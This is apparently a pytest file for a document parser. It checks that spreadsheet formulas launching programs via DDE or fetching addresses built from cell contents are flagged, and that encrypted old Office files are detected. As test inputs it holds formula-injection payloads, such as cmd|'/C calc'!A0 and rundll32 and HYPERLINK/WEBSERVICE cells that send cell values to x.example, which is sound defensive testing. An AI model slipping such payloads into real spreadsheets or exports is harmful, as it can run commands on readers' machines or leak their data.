"""Formulas that start a program or send cells away hold the file, in every format of tables; ordinary ones do not."""

import struct
from html import escape

import pytest

from parsers import SegmentKind, Status, read_tree
from parsers.formula_dangers import formula_danger, typed_danger
from tests import odf_files, ole_files, ooxml_files
from tests.old_office_files import biff, ppt, record, string, wide, xls

START = "cmd|'/C calc'!A0"
ODS = "application/vnd.oasis.opendocument.spreadsheet"


def holds(document):
    return [finding.code for finding in document.findings if finding.severity == "hold"]


def beside(document):
    return [segment.text for segment in document.segments if segment.kind is SegmentKind.METADATA]


@pytest.mark.parametrize(
    ("formula", "danger"),
    [
        (START, "dde_field"),
        (r"MSEXCEL|'\..\..\Windows\System32\cmd.exe /c calc.exe'!''", "dde_field"),
        ("1+rundll32|'URL.dll,OpenURL calc'!A", "dde_field"),
        ('of:=DDE("soffice";"a.ods";"Sheet1.A1")', "dde_field"),
        ('HYPERLINK("http://x.example/?"&A1,"click")', "formula_fetches"),
        ('WEBSERVICE("http://x.example/"&B2)', "formula_fetches"),
        ('HYPERLINK("http://x.example/a","click")', ""),
        ('IF(A1="a|b!",1,2)', ""),
        ("SUM(A1:A9)*Sheet2!B3", ""),
        ("VLOOKUP(A1,'Other sheet'!A1:B9,2)", ""),
    ],
)
def test_what_a_formula_does_is_known_by_its_words(formula, danger):
    """Programs by DDE, addresses put together from cells; a written-out link is ordinary."""
    assert formula_danger(formula) == danger


@pytest.mark.parametrize(
    ("cell", "danger"),
    [
        (f"={START}", "dde_field"),
        (f"@SUM(1+1)*{START}", "dde_field"),
        (f"\t-2+3+{START}", "dde_field"),
        ('=HYPERLINK("http://x.example/a","click")', "formula_fetches"),
        ("-5", ""),
        ("+44 7700 900123", ""),
        ("@school", ""),
        ("Seen | told 'us' !", ""),
    ],
)
def test_a_typed_cell_counts_only_as_a_formula(cell, danger):
    """Telephone numbers and minus signs begin like formulas."""
    assert typed_danger(cell) == danger
    quoted = '"' + cell.replace('"', '""') + '"'
    assert holds(read_tree(f"name,born\r\n{quoted},2015\r\n".encode(), "a.csv", "text/csv")) == ([danger] if danger else [])


def test_formulas_of_every_place_in_a_workbook_are_looked_at():
    """In a cell, in what a cell may hold, and in a name."""
    cell = f'<row r="1"><c r="A1"><f>{escape(START)}</f><v>0</v></c></row>'
    assert holds(read_tree(ooxml_files.xlsx(("A", "visible", cell)), "a.xlsx")) == ["dde_field"]
    good = '<row r="1"><c r="A1"><f>SUM(B1:B3)</f><v>0</v></c></row>'
    assert holds(read_tree(ooxml_files.xlsx(("A", "visible", good)), "a.xlsx")) == []


def test_formulas_of_an_opendocument_sheet_are_looked_at():
    """As its own function and as Excel writes it."""
    for formula in ('of:=DDE("cmd";"/C calc";"A0")', f"of:={START}"):
        cell = f'<table:table-cell table:formula="{escape(formula)}"><text:p>x</text:p></table:table-cell>'
        table = f'<table:table table:name="A"><table:table-row>{cell}</table:table-row></table:table>'
        content = odf_files.xml("office:document-content", f"<office:body><office:spreadsheet>{table}</office:spreadsheet></office:body>")
        assert "dde_field" in holds(read_tree(odf_files.package({"content.xml": content}, ODS), "a.ods"))


def test_an_old_workbook_says_what_it_starts_and_where_it_leads():
    """A DDE link, another book, a cell's link, a name's text, prompts and choices."""
    tail = struct.pack("<H", 0)
    link = "http://a.example/x".encode("utf-16-le") + b"\0\0"
    url = bytes.fromhex("E0C9EA79F9BACE118C8200AA004BA90B") + struct.pack("<I", len(link)) + link
    choices = b"\x17" + bytes([7]) + b"\0yes\0no!"
    found = read_tree(
        xls(
            {},
            [0],
            [
                biff(0x1AE, struct.pack("<HH", 0, 12) + b"\0cmd\x03/C calc!"),
                biff(0x1AE, struct.pack("<HH", 1, 0x0401)),
                biff(0x1AE, struct.pack("<HH", 1, 9) + b"\0\x01list.xls"),
                biff(0x1B8, bytes(8) + bytes(16) + struct.pack("<II", 2, 3) + url),
                biff(0x18, struct.pack("<HBBHHHI", 0, 0, 4, 8, 0, 0, 0) + b"\0Home" + b"\x17\x05\0Leeds"),
                biff(
                    0x1BE,
                    bytes(4)
                    + b"".join(string(t, "<H") for t in ("Name", "\0", "Full name", "\0"))
                    + struct.pack("<HH", 10, 0)
                    + choices
                    + tail,
                ),
                biff(0x1BE, b"\0"),
            ],
        ),
        "a.xls",
    )
    assert holds(found) == ["dde_field", "external_relation"]
    assert beside(found) == [
        "link: cmd|/C calc!",
        "link: list.xls",
        "link: http://a.example/x",
        "defined name Home: Leeds",
        "Name",
        "Full name",
        "choices: yes, no!",
    ]


OPENING = biff(0x809, struct.pack("<HHHHII", 0x600, 5, 0, 0, 0, 0))


@pytest.mark.parametrize(
    "lock",
    [
        struct.pack("<HHH", 0, 0x1234, 0x5678),
        struct.pack("<HHH", 1, 1, 1) + bytes(48),
        struct.pack("<HHH", 1, 2, 2) + bytes(180),
    ],
    ids=["xor", "rc4", "cryptoapi"],
)
@pytest.mark.parametrize("before", [0, 60], ids=["near", "far"])
def test_every_lock_of_an_old_workbook_is_said(lock, before):
    """Wherever the record stands, and in either stream of a file for both generations of Excel."""
    stream = OPENING + biff(0x5C, b"x" * 112) * before + biff(0x2F, lock) + b"\x99" * 90
    assert read_tree(ole_files.compound({"Workbook": stream}), "a.xls").status is Status.ENCRYPTED
    assert read_tree(ole_files.compound({"Workbook": OPENING + biff(10, b""), "Book": stream}), "a.xls").status is Status.ENCRYPTED


def test_a_locked_presentation_is_known_by_its_edit():
    """Where the stream of the current user says nothing, the last edit tells of the key's place."""
    edit = record(0x0FF5, bytes(32))
    assert read_tree(ppt(b"\x99" * 64, edit), "a.ppt").status is Status.ENCRYPTED
    assert read_tree(ppt(wide("seen"), record(0x0FF5, bytes(28))), "a.ppt").status is Status.OK
